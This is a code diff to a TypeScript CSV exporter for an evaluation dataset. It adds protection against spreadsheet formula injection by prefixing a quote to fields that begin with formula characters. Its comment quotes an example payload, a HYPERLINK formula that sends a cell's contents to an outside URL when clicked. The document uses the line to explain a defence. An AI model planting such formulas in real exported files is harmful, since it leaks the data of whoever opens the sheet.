@@ -16,9 +16,22 @@ import { datasetRecords, type DatasetOptions, type DatasetReport } from './datas
 /** The evaluation set as CSV: the last user message, its reference, tags, where it came from. */
 export const EVAL_CSV_COLUMNS = ['input', 'reference', 'tags', 'kind', 'session_id', 'branch_id', 'turn'] as const;
 
-/** One CSV field (RFC 4180): quoted when it holds a comma, a quote or a line break, quotes doubled. */
+/**
+ * The characters that make a spreadsheet (Excel, LibreOffice, Google Sheets) read a cell as a formula when it starts
+ * with one (OWASP, "CSV Injection"): `=`, `+`, `-`, `@`, a tab, a carriage return.
+ */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+/**
+ * One CSV field (RFC 4180): quoted when it holds a comma, a quote or a line break, quotes doubled. A field that
+ * starts as a formula would (`FORMULA_START`) gets a `'` before it, inside the quotes, so a spreadsheet shows it as
+ * text and never evaluates it: the fields are session text (a message, an answer, an id), anyone's to write, and
+ * `=HYPERLINK("https://…?"&B2)` would send the row elsewhere when clicked. The only number written, `turn`, is never
+ * negative, so it never starts with `-`.
+ */
 export function csvField(value: string): string {
-  return /[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
+  const text = FORMULA_START.test(value) ? `'${value}` : value;
+  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
 }
 
 function csvRow(record: object): string {
